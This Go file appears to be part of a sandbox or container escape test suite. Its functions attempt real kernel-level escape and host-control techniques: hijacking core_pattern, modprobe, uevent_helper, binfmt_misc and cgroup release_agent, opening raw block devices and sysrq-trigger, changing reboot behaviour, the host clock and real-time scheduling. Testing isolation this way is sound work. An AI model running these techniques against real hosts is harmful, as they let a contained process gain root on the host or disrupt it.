package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"

	"penstock/test/escape/task"
)

// kernelWays have the kernel itself start a program as root, or go below it.
func kernelWays() map[string]func(*attempt) error {
	return map[string]func(*attempt) error{
		"core_pattern":             corePattern,
		"modprobe path":            modprobe,
		"uevent_helper":            uevent,
		"binfmt_misc":              binfmt,
		"cgroup v1 release_agent":  private(releaseAgent),
		"open a block device":      blockDevice,
		"write a kernel parameter": parameter,
		"keyboard's SysRq":         sysrq,
		"reboot and kexec rights":  rebootRight,
		"set the host's clock":     setClock,
		"real-time scheduling":     realTime,
	}
}

func write(path, text string) error { return os.WriteFile(path, []byte(text), 0) }

func corePattern(a *attempt) error {
	if err := write("/proc/sys/kernel/core_pattern", "|"+a.self+" "+task.Linger+" "+a.Token); err != nil {
		return err
	}
	_ = run("/bin/sh", "-c", "kill -SEGV $$") // its end is the trigger
	return nil
}

func modprobe(a *attempt) error {
	path, err := a.script()
	if err != nil {
		return err
	}
	if err := write("/proc/sys/kernel/modprobe", path); err != nil {
		return err
	}
	for family := 20; family < 46; family++ { // one that needs a module that isn't there
		if fd, err := unix.Socket(family, unix.SOCK_DGRAM, 0); err == nil {
			unix.Close(fd)
		}
	}
	return nil
}

func uevent(a *attempt) error {
	path, err := a.script()
	if err != nil {
		return err
	}
	if err := write("/sys/kernel/uevent_helper", path); err != nil {
		return err
	}
	return write("/sys/devices/virtual/mem/null/uevent", "change")
}

// binfmt would have everybody's programs started by one of ours.
func binfmt(a *attempt) error {
	const dir = "/proc/sys/fs/binfmt_misc"
	if a.Control {
		if _, err := os.Stat(dir + "/register"); err != nil {
			_ = unix.Mount("none", dir, "binfmt_misc", 0, "") // tells below
		}
	}
	return write(dir+"/register", ":escape-"+a.Token+":E::"+a.Token+"::"+a.self+":")
}

func releaseAgent(a *attempt) error {
	dir, err := a.point()
	if err != nil {
		return err
	}
	path, err := a.script()
	if err != nil {
		return err
	}
	if err := unix.Mount("none", dir, "cgroup", 0, "none,name=escape"); err != nil {
		return fmt.Errorf("mount cgroup v1: %w", err)
	}
	group := filepath.Join(dir, a.Token)
	return errors.Join(
		os.Mkdir(group, 0o755),
		write(filepath.Join(dir, "release_agent"), path),
		write(filepath.Join(group, "notify_on_release"), "1"),
		run("/bin/sh", "-c", "echo 0 >"+filepath.Join(group, "cgroup.procs")))
}

// blockDevice opens a disk for writing below every file system on it; it writes nothing.
func blockDevice(a *attempt) error {
	text, err := os.ReadFile("/proc/partitions")
	if err != nil {
		return err
	}
	errs := []error{errors.New("no block device here")}
	for line := range strings.Lines(string(text)) {
		var major, minor uint32
		var blocks uint64
		var name string
		if n, _ := fmt.Sscan(line, &major, &minor, &blocks, &name); n != 4 {
			continue
		}
		node := a.scratch(name)
		if err := unix.Mknod(node, unix.S_IFBLK|0o600, int(unix.Mkdev(major, minor))); err != nil {
			errs = append(errs, fmt.Errorf("mknod: %w", err))
			node = "/dev/" + name
		}
		f, err := os.OpenFile(node, os.O_RDWR, 0)
		if err != nil {
			errs = append(errs, err)
			continue
		}
		a.hold()
		return f.Close()
	}
	return errors.Join(errs...)
}

// parameter changes a figure of the whole host that harms nobody here.
func parameter(a *attempt) error {
	return write(task.Parameter, task.ParameterChanged)
}

// sysrq would reboot the host with a b; its write right is what is looked for.
func sysrq(a *attempt) error {
	f, err := os.OpenFile("/proc/sysrq-trigger", os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	a.hold()
	return f.Close()
}

// rebootRight changes what Ctrl-Alt-Del does: who may do that may restart the
// host and load another kernel.
func rebootRight(*attempt) error {
	now, err := os.ReadFile("/proc/sys/kernel/ctrl-alt-del")
	if err != nil {
		return err
	}
	if strings.TrimSpace(string(now)) == "0" {
		return unix.Reboot(unix.LINUX_REBOOT_CMD_CAD_ON)
	}
	return unix.Reboot(unix.LINUX_REBOOT_CMD_CAD_OFF)
}

func setClock(a *attempt) error {
	var now unix.Timespec
	if err := unix.ClockGettime(unix.CLOCK_REALTIME, &now); err != nil {
		return err
	}
	now.Sec += 100
	if err := unix.ClockSettime(unix.CLOCK_REALTIME, &now); err != nil {
		return fmt.Errorf("clock_settime: %w", err)
	}
	a.hold()
	return nil
}

// realTime could keep the processors from everybody, whatever its weight.
func realTime(a *attempt) error {
	attr := unix.SchedAttr{Policy: unix.SCHED_FIFO, Priority: 1, Size: unix.SizeofSchedAttr}
	if err := unix.SchedSetAttr(0, &attr, 0); err != nil {
		return fmt.Errorf("sched_setattr: %w", err)
	}
	a.hold()
	return nil
}
